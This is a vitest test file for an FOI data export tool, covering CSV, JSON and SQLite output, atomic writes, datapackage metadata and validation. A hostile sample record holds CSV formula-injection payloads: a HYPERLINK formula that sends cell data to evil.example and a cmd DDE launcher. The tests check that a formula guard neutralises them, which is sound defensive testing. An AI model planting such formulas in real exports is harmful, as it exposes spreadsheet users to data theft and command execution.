import Database from 'better-sqlite3';
import { parse as parseCsv } from 'csv-parse/sync';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { EXPORT_MARKER } from '../../src/export/atomic.js';
import { datasetFieldsOf } from '../../src/export/fields.js';
import { formatViolation, validatePath } from '../../src/export/validate.js';
import { writeExport } from '../../src/export/write.js';
import { applyCorrections } from '../../src/corrections/apply.js';
import { DATASET_TABLES, type DatasetTable as TableName } from '../../src/records/schema.js';
import { hostileDisclosure, sampleDisclosure } from './store-sample.js';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'export-'));
});
afterEach(() => {
  delete process.env.FOI_HARVEST_TEST_EXPORT_FAULT;
  rmSync(dir, { recursive: true, force: true });
});

const DATA = [hostileDisclosure(), sampleDisclosure()];
const ALL = ['csv', 'json', 'ndjson', 'sqlite'] as const;
const TABLES = DATASET_TABLES;
/** What an export writes for an uncorrected record: every row marked corrected: false. */
const marked = DATA.map((d) => applyCorrections(d, []).record);
const read = (name: string, out = join(dir, 'out')) => readFileSync(join(out, name));

describe('writeExport files', () => {
  it('writes every format, and nothing else in the target', async () => {
    const files = await writeExport(DATA, { out: join(dir, 'out'), formats: [...ALL], changes: { none: true } });
    const tables = Object.keys(TABLES).map((t) => `${t}.csv`);
    expect(tables[0]).toBe('figures_flat.csv');
    expect(files).toEqual([...tables, 'datapackage.json', 'disclosures.json', 'figures_flat.json', 'disclosures.ndjson', 'figures_flat.ndjson', 'foi-harvest.sqlite', 'metadata.json', 'changes.json']);
    expect(readdirSync(join(dir, 'out')).sort()).toEqual([...files, EXPORT_MARKER].sort());
    // `out` links to the one set; the staging directory is gone.
    expect(readdirSync(dir).filter((n) => n !== 'out' && !n.startsWith('.out.set-'))).toEqual([]);
  });

  it('neutralises formulas in text cells but keeps negative numbers numeric (on the bytes)', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'] });
    const disclosures = read('disclosures.csv').toString('utf8');
    expect(disclosures.startsWith('id,force,kind,reference,publication_ref,title,url,')).toBe(true);
    expect(disclosures).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(disclosures).toContain(`,"'+cmd|"" /C calc""!A0",`);
    // warnings, then the sources' columns (source, source_state, duplicate_of), then the correction marks.
    expect(disclosures).toContain(`,'@SUM(1+1); -2+3; \tTabbed; '=already quoted,west-midlands,,,false,\r\n`);
    const figures = read('figures.csv').toString('utf8').split('\r\n');
    expect(figures[0]).toBe(datasetFieldsOf('figures').map((f) => f.name).join(','));
    expect(figures[0].endsWith(',text,locator,sha256,corrected,correction_reason')).toBe(true);
    expect(figures[2]).toBe(`unknown/u-0123456789ab,2,-3,cases,other,,,,,,,,,,,true,change: -3,xlsx:Sheet1!B4,${'b'.repeat(64)},false,`);
    expect(figures[1]).toContain(",21,officers,convicted,1,2019-01-01,2023-12-31,2021,'-minus first,driving,male,PC,suspended,\"Total, 2021\",false,");
    // Multi-line text is quoted (RFC 4180), lists joined with "; ", booleans true/false.
    expect(disclosures).toContain(`,"Please tell me:\n1. How many officers were convicted, 2019-2023?",`);
    expect(disclosures).toContain(',partial,false,false,convictions; suspensions,');
    expect(read('disclosures.csv')[0]).toBe('i'.charCodeAt(0)); // no BOM by default
  });

  it('records the guard in datapackage.json, and with formulaGuard: false writes every cell verbatim (still valid)', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'] });
    expect(JSON.parse(read('datapackage.json').toString()).formulaGuard).toMatchObject({ applied: true, prefix: "'" });
    await writeExport(DATA, { out: join(dir, 'raw'), formats: ['csv'], formulaGuard: false });
    const raw = read('disclosures.csv', join(dir, 'raw')).toString('utf8');
    expect(raw).toContain(`,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
    expect(raw).toContain(`,@SUM(1+1); -2+3; \tTabbed; '=already quoted,west-midlands,,,false,\r\n`);
    expect(read('figures.csv', join(dir, 'raw')).toString('utf8')).toContain(',-minus first,');
    const pkg = JSON.parse(read('datapackage.json', join(dir, 'raw')).toString());
    expect(pkg.formulaGuard).toMatchObject({ applied: false });
    // The validator reads the cells back as written: no apostrophe taken off what had none.
    const report = await validatePath(join(dir, 'raw'));
    expect(report.violations.map(formatViolation)).toEqual([]);
  });

  it('adds a UTF-8 BOM with excel', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'], excel: true });
    expect([...read('questions.csv').subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it('writes JSON and NDJSON that parse back to the disclosures', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['json', 'ndjson'] });
    expect(JSON.parse(read('disclosures.json').toString())).toEqual(marked);
    const lines = read('disclosures.ndjson').toString().split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(lines.slice(0, 2).map((l) => JSON.parse(l))).toEqual(marked);
  });

  it('is byte-identical when run twice', async () => {
    await writeExport(DATA, { out: join(dir, 'a'), formats: [...ALL], changes: [] });
    await writeExport(DATA, { out: join(dir, 'b'), formats: [...ALL], changes: [] });
    for (const f of readdirSync(join(dir, 'a'))) expect(read(f, join(dir, 'a')).equals(read(f, join(dir, 'b'))), f).toBe(true);
  });
});

describe('datapackage.json', () => {
  it('describes every CSV column with its type, vocabulary and keys', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv'] });
    const pkg = JSON.parse(read('datapackage.json').toString());
    expect(pkg.profile).toBe('tabular-data-package');
    expect(pkg.resources.map((r: { path: string }) => r.path)).toEqual(Object.keys(TABLES).map((t) => `${t}.csv`));
    for (const res of pkg.resources) {
      const header = (parseCsv(read(res.path)) as string[][])[0];
      expect(res.schema.fields.map((f: { name: string }) => f.name), res.name).toEqual(header);
      expect(res.schema.missingValues).toEqual(['']);
      if (res.name === 'disclosures') {
        expect(res.schema.primaryKey).toEqual(['id']);
        expect(res.schema.foreignKeys).toBeUndefined();
      } else {
        expect(res.schema.primaryKey).toEqual(['disclosure_id', 'ordinal']);
        expect(res.schema.foreignKeys).toEqual([{ fields: ['disclosure_id'], reference: { resource: 'disclosures', fields: ['id'] } }]);
      }
    }
    const field = (t: TableName, n: string) => pkg.resources.find((r: { name: string }) => r.name === t).schema.fields.find((f: { name: string }) => f.name === n);
    expect(field('figures', 'value')).toEqual({ name: 'value', type: 'number', description: 'the number as given', constraints: { required: true } });
    expect(field('figures', 'year')).toMatchObject({ name: 'year', type: 'integer' });
    expect(field('periods', 'start')).toMatchObject({ name: 'start', type: 'date' });
    expect(field('figures', 'gender')).toMatchObject({ name: 'gender', type: 'string', constraints: { enum: ['male', 'female', 'other', 'unknown'] } });
    // The data dictionary is complete: every column of every table says what it holds.
    for (const res of pkg.resources) for (const f of res.schema.fields) expect(f.description, `${res.name}.${f.name}`).toMatch(/\w{3}/);
    expect(field('disclosures', 'ncnd')).toMatchObject({ type: 'boolean', trueValues: ['true'], falseValues: ['false'], constraints: { required: true } });
    expect(field('disclosures', 'topics').type).toBe('string');
    expect(field('disclosures', 'topics').description).toContain('joined with "; "');
    expect(field('disclosures', 'request_text').constraints).toBeUndefined(); // may be ""
    expect(field('disclosures', 'id').constraints).toEqual({ required: true });
  });
});

describe('SQLite export', () => {
  it('has the tables with keys, the rows, and Datasette metadata', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['sqlite'] });
    const db = new Database(join(dir, 'out', 'foi-harvest.sqlite'), { readonly: true });
    try {
      for (const t of Object.keys(TABLES)) {
        const cols = (db.prepare(`PRAGMA table_info(${t})`).all() as Array<{ name: string; pk: number }>);
        if (t === 'figures_flat') continue; // a view: checked below
        expect(cols.map((c) => c.name), t).toEqual(datasetFieldsOf(t as TableName).map((f) => f.name));
        expect(cols.filter((c) => c.pk).map((c) => c.name)).toEqual(t === 'disclosures' ? ['id'] : ['disclosure_id', 'ordinal']);
      }
      expect(db.prepare('PRAGMA foreign_key_list(figures)').all()).toMatchObject([{ table: 'disclosures', from: 'disclosure_id', to: 'id', on_delete: 'CASCADE' }]);
      expect(db.prepare('SELECT id, topics, ncnd FROM disclosures ORDER BY id').all()).toEqual([
        { id: 'unknown/u-0123456789ab', topics: '[]', ncnd: 0 },
        { id: 'west-midlands/65a-24', topics: '["convictions","suspensions"]', ncnd: 0 },
      ]);
      expect(db.prepare('SELECT value FROM figures ORDER BY disclosure_id, ordinal').all()).toEqual([{ value: 21 }, { value: -3 }, { value: 21 }, { value: -3 }]);
    } finally {
      db.close();
    }
    const meta = JSON.parse(read('metadata.json').toString());
    expect(Object.keys(meta.databases['foi-harvest'].tables)).toEqual(Object.keys(TABLES));
    expect(meta).toMatchObject({ title: expect.any(String), license: expect.any(String), source: expect.any(String) });
  });
});

describe('atomicity', () => {
  it('a failed export leaves the previous files intact and no staging directory', async () => {
    const out = join(dir, 'out');
    await writeExport([sampleDisclosure()], { out, formats: ['csv', 'json'] });
    const before = Object.fromEntries(readdirSync(out).map((f) => [f, read(f)]));
    process.env.FOI_HARVEST_TEST_EXPORT_FAULT = 'fail';
    await expect(writeExport(DATA, { out, formats: ['csv', 'json', 'sqlite'] })).rejects.toThrow('injected failure');
    expect(readdirSync(dir).filter((n) => n.includes('.export-'))).toEqual([]);
    expect(Object.fromEntries(readdirSync(out).map((f) => [f, read(f)]))).toEqual(before);
  });

  it('refuses a target that is a file, naming it', async () => {
    writeFileSync(join(dir, 'file'), 'x');
    await expect(writeExport(DATA, { out: join(dir, 'file'), formats: ['json'] })).rejects.toThrow(`--out ${join(dir, 'file')}: is not a directory`);
  });

  it('removes staging directories of killed exports', async () => {
    const stale = join(dir, '.out.export-999999999-abcdef');
    const live = join(dir, `.out.export-${process.pid}-zzzzzz`);
    for (const d of [stale, live]) {
      rmSync(d, { recursive: true, force: true });
      mkdirSync(d);
    }
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['json'] });
    expect(readdirSync(dir).filter((n) => !n.startsWith('.out.set-')).sort()).toEqual(['.out.export-' + process.pid + '-zzzzzz', 'out']);
  });
});

describe('validate', () => {
  it('passes every export', async () => {
    await writeExport(DATA, { out: join(dir, 'out'), formats: ['csv', 'json', 'ndjson'], excel: true });
    const r = await validatePath(join(dir, 'out'));
    expect(r.violations.map(formatViolation)).toEqual([]);
    expect(r.files.length).toBe(13); // + figures_flat.csv, .json, .ndjson
    expect(r.rows).toBe(4 + 2 + 2 + 2 + 2 + 4 + 2 + 2 + (2 + 4) + (2 + 4)); // figures_flat + 7 CSV tables, then JSON and NDJSON, each + figures_flat
    for (const f of ['figures.csv', 'figures_flat.csv', 'disclosures.json', 'figures_flat.json', 'figures_flat.ndjson', 'disclosures.ndjson', 'datapackage.json']) {
      expect((await validatePath(join(dir, 'out', f))).violations, f).toEqual([]);
    }
  });

  it('lists every violation as file:row:column: message', async () => {
    const out = join(dir, 'out');
    await writeExport(DATA, { out, formats: ['csv', 'json'] });
    const fig = read('figures.csv').toString().replace(',-3,cases,', ',minus three,cases,').replace(',officers,convicted,', ',officers,jailed,');
    writeFileSync(join(out, 'figures.csv'), fig);
    writeFileSync(join(out, 'questions.csv'), read('questions.csv').toString().replace('west-midlands/65a-24', 'west-midlands/nope'));
    const json = JSON.parse(read('disclosures.json').toString());
    json[1].outcome = 'maybe';
    json[0].figures[0].ordinal = 2;
    json.push(structuredClone(json[0]));
    writeFileSync(join(out, 'disclosures.json'), JSON.stringify(json));
    const pkg = JSON.parse(read('datapackage.json').toString());
    pkg.resources[3].schema.fields.pop();
    writeFileSync(join(out, 'datapackage.json'), JSON.stringify(pkg));
    const lines = (await validatePath(out)).violations.map(formatViolation);
    const f = (n: string) => join(out, n);
    expect(lines).toEqual([
      expect.stringMatching(new RegExp(`^${f('figures.csv').replace(/[/.]/g, '\\$&')}:2:event: Invalid option: expected one of "convicted"`)),
      `${f('figures.csv')}:3:value: not a number: "minus three"`,
      `${f('disclosures.json')}:1:figures[2].ordinal: duplicate ordinal 2`,
      expect.stringMatching(/disclosures\.json:2:outcome: Invalid option: expected one of "full"/),
      `${f('disclosures.json')}:3:id: duplicate id "unknown/u-0123456789ab" (also row 1)`,
      `${f('disclosures.json')}:3:figures[2].ordinal: duplicate ordinal 2`,
      expect.stringMatching(/datapackage\.json:4:schema\.fields: fields differ from the table's columns: expected disclosure_id:string, ordinal:integer/),
      // Keys across files are checked once every file is read.
      `${f('questions.csv')}:3:disclosure_id: no disclosure "west-midlands/nope" in disclosures.csv`,
    ]);
  });

  it('reports broken CSV structure', async () => {
    const out = join(dir, 'out');
    await writeExport(DATA, { out, formats: ['csv'] });
    writeFileSync(join(out, 'cases.csv'), 'disclosure_id,ordinal,role\r\nx,1\r\n');
    writeFileSync(join(out, 'questions.csv'), read('questions.csv').toString() + read('questions.csv').toString().split('\r\n')[1] + '\r\n');
    const lines = (await validatePath(out)).violations.map(formatViolation).filter((l) => /cases|questions/.test(l));
    expect(lines).toContain(`${join(out, 'cases.csv')}:1:rank: missing column`);
    expect(lines).toContain(`${join(out, 'cases.csv')}:2:: expected 3 cells, found 2`);
    expect(lines).toContain(`${join(out, 'questions.csv')}:4:disclosure_id+ordinal: duplicate primary key unknown/u-0123456789ab, 1 (also row 2)`);
  });
});
